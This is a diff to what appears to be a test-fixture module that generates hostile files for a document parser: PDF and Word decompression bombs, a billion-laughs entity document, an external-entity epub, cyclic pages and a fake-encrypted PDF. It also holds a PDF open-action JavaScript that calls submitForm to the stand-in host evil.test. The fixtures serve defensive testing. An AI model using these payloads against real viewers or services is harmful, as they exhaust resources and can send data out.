@@ -22,15 +22,24 @@ class Hostile:
 
 def hostile_files() -> Iterator[Hostile]:
     yield Hostile("a PDF stream that unpacks to 1 GB", "stream.pdf", _pdf_bomb(1000), "failed")
-    yield Hostile("30 MB of text operators in 70 KB", "operators.pdf", _text_bomb(), None)
+    operators = Sheet([Text(72, 700, "Start of it")], more=b"BT /F1 9 Tf 72 600 Td (x y) Tj ET\n" * 900_000)
+    yield Hostile("30 MB of text operators in 70 KB", "operators.pdf", pdf([operators]), None)
     yield Hostile("100,000 pages", "pages.pdf", _many_pages(100_000), "too_large")
     yield Hostile("pages in a circle", "circle.pdf", _cyclic(), "no_text")
-    yield Hostile("a page 2,000,000 points wide", "wide.pdf", _wide(), None)
-    yield Hostile("a PDF with a password", "locked.pdf", _locked(), "encrypted")
-    yield Hostile("a PDF with a script that runs when it opens", "script.pdf", _script(), None)
+    wide = Sheet([Text(72, 700, "Words on a wide page")], size=(2_000_000.0, 800.0))
+    yield Hostile("a page 2,000,000 points wide", "wide.pdf", pdf([wide]), None)
+    key = "<" + "5a" * 32 + ">"
+    trailer = f"/Encrypt << /Filter /Standard /V 1 /R 2 /O {key} /U {key} /P -4 >> /ID [<00> <00>]"
+    locked = pdf([Sheet([Text(72, 700, "Locked words")])], trailer=trailer)
+    yield Hostile("a PDF with a password", "locked.pdf", locked, "encrypted")
+    action = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.test'\\)) >>"
+    script = pdf([Sheet([Text(72, 700, "Words beside a script")])], catalog=action)
+    yield Hostile("a PDF with a script that runs when it opens", "script.pdf", script, None)
     yield Hostile("half a PDF", "half.pdf", pdf([Sheet([Text(72, 700, "Whole")])])[:400], "failed")
-    yield Hostile("a Word document that unpacks to 300 times its size", "bomb.docx", _docx_bomb(), "too_large")
-    yield Hostile("entities that multiply", "laughs.docx", _laughing_docx(), "failed")
+    words = docx(paragraph("All the same words again.") * 900_000)
+    yield Hostile("a Word document that unpacks to 300 times its size", "bomb.docx", words, "too_large")
+    laughing = docx(paragraph("&l9;"), before=_LAUGHS)
+    yield Hostile("entities that multiply", "laughs.docx", laughing, "failed")
     yield Hostile("an entity that names a file", "entity.epub", epub(_CHAPTER, before=_ENTITY), None)
     yield Hostile(
         "a locked Word document", "locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "encrypted"
@@ -69,10 +78,6 @@ def _pdf_bomb(megabytes: int) -> bytes:
     return _with_content(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream")
 
 
-def _text_bomb() -> bytes:
-    return pdf([Sheet([Text(72, 700, "Start of it")], more=b"BT /F1 9 Tf 72 600 Td (x y) Tj ET\n" * 900_000)])
-
-
 def _with_content(stream: bytes) -> bytes:
     page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>"
     tree = b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>"
@@ -91,25 +96,6 @@ def _cyclic() -> bytes:
     return assemble({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: tree, 3: b"<< >>", 4: inner})
 
 
-def _wide() -> bytes:
-    return pdf([Sheet([Text(72, 700, "Words on a wide page")], size=(2_000_000.0, 800.0))])
-
-
-def _locked() -> bytes:
-    key = "<" + "5a" * 32 + ">"
-    return pdf(
-        [Sheet([Text(72, 700, "Locked words")])],
-        trailer=f"/Encrypt << /Filter /Standard /V 1 /R 2 /O {key} /U {key} /P -4 >> /ID [<00> <00>]",
-    )
-
-
-def _script() -> bytes:
-    return pdf(
-        [Sheet([Text(72, 700, "Words beside a script")])],
-        catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.test'\\)) >>",
-    )
-
-
 def packed(entries: Mapping[str, str | bytes]) -> bytes:
     """Write a zip."""
     output = io.BytesIO()
@@ -124,11 +110,8 @@ _TYPES = (
     '<Override PartName="/word/document.xml" ContentType='
     '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
 )
-_RELATIONS = (
-    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
-    'Target="word/document.xml"/></Relationships>'
-)
+RELATIONSHIPS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+_RELATION = '<Relationship Id="{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}.xml"/>'
 _WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
 
 
@@ -141,36 +124,19 @@ def docx(body: str, *, before: str = "", parts: dict[str, str] | None = None) ->
         parts: the root element of further parts by their kind, such as ``comments``, which is also the relation's id.
     """
     others = parts or {}
-    relations = "".join(
-        f'<Relationship Id="{kind}" Target="{kind}.xml" '
-        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
-        for kind in others
-    )
-    document = f'<?xml version="1.0"?>{before}<w:document {_WORD}><w:body>{body}</w:body></w:document>'
-    named = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-    return packed(
-        {
-            "[Content_Types].xml": _TYPES,
-            "_rels/.rels": _RELATIONS,
-            "word/document.xml": document,
-            "word/_rels/document.xml.rels": f"{named}{relations}</Relationships>",
-        }
-        | {f"word/{kind}.xml": xml.replace(">", f" {_WORD}>", 1) for kind, xml in others.items()}
-    )
+    entries = {
+        "[Content_Types].xml": _TYPES,
+        "_rels/.rels": RELATIONSHIPS.format(_RELATION.format("r1", "officeDocument", "word/document")),
+        "word/document.xml": f'<?xml version="1.0"?>{before}<w:document {_WORD}><w:body>{body}</w:body></w:document>',
+        "word/_rels/document.xml.rels": RELATIONSHIPS.format("".join(_RELATION.format(*[kind] * 3) for kind in others)),
+    }
+    return packed(entries | {f"word/{kind}.xml": xml.replace(">", f" {_WORD}>", 1) for kind, xml in others.items()})
 
 
 def paragraph(text: str, style: str = "") -> str:
     """One paragraph of a Word document."""
     properties = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
     return f"<w:p>{properties}<w:r><w:t xml:space='preserve'>{text}</w:t></w:r></w:p>"
-
-
-def _docx_bomb() -> bytes:
-    return docx(paragraph("All the same words again.") * 900_000)
-
-
-def _laughing_docx() -> bytes:
-    return docx(paragraph("&l9;"), before=_LAUGHS)
 
 
 def _deep_mail() -> bytes:
